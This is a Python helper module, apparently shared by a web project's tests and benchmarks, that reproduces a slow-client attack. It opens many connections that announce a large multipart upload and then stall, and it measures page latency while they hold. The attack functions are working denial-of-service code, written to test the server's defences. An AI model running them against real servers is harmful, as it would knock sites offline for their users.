"""The slow-client attack of issue 14, shared by the tests and benchmarks/slow_clients.py.

A slow client announces a large multipart body, sends its headers and the first line of the body,
then nothing. A server that hands the request to an application thread before the body has
arrived loses that thread until the client gives up; enough such clients and the site stops
answering.
"""

from __future__ import annotations

import select
import socket
import statistics
import time
from dataclasses import dataclass, field

import httpx

BOUNDARY = "tiplineslowclient"
ANNOUNCED_BYTES = 150 * 1024 * 1024  # what the attack in the issue announced


def stalled_upload(
    host: str,
    port: int,
    *,
    path: str = "/en/report/cyberstalking/",
    announced: int = ANNOUNCED_BYTES,
) -> socket.socket:
    """Open a connection that promises `announced` bytes of multipart body and sends 40."""
    sock = socket.create_connection((host, port), timeout=5)
    head = (
        f"POST {path} HTTP/1.1\r\n"
        f"Host: {host}:{port}\r\n"
        f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
        f"Content-Length: {announced}\r\n"
        "\r\n"
        f"--{BOUNDARY}\r\n"
    )
    sock.sendall(head.encode("ascii"))
    return sock


def open_attack(
    host: str, port: int, connections: int, *, announced: int = ANNOUNCED_BYTES
) -> list[socket.socket]:
    return [stalled_upload(host, port, announced=announced) for _ in range(connections)]


def close_all(socks: list[socket.socket]) -> None:
    for sock in socks:
        sock.close()


def still_open(sock: socket.socket) -> bool:
    """True while the server has neither answered nor closed this connection."""
    readable, _, _ = select.select([sock], [], [], 0)
    return not readable  # readable means an answer, or end of file when the server closed it


@dataclass
class Probe:
    """Latencies of `GET path`, one request at a time; a timeout counts as a failure."""

    latencies: list[float] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)

    @property
    def p50(self) -> float:
        return statistics.median(self.latencies) if self.latencies else float("inf")

    @property
    def p99(self) -> float:
        if not self.latencies:
            return float("inf")
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, round(0.99 * (len(ordered) - 1)))]

    @property
    def worst(self) -> float:
        return max(self.latencies, default=float("inf"))


def probe(
    url: str, *, requests: int, timeout: float = 1.0, pause: float = 0.05, path: str = "/en/"
) -> Probe:
    result = Probe()
    for _ in range(requests):
        started = time.monotonic()
        try:
            # A new connection per request, as a new visitor would make.
            answer = httpx.get(url + path, timeout=timeout)
        except httpx.HTTPError as error:
            result.failures.append(type(error).__name__)
        else:
            elapsed = time.monotonic() - started
            if answer.status_code == 200:
                result.latencies.append(elapsed)
            else:
                result.failures.append(f"status {answer.status_code}")
        time.sleep(pause)
    return result
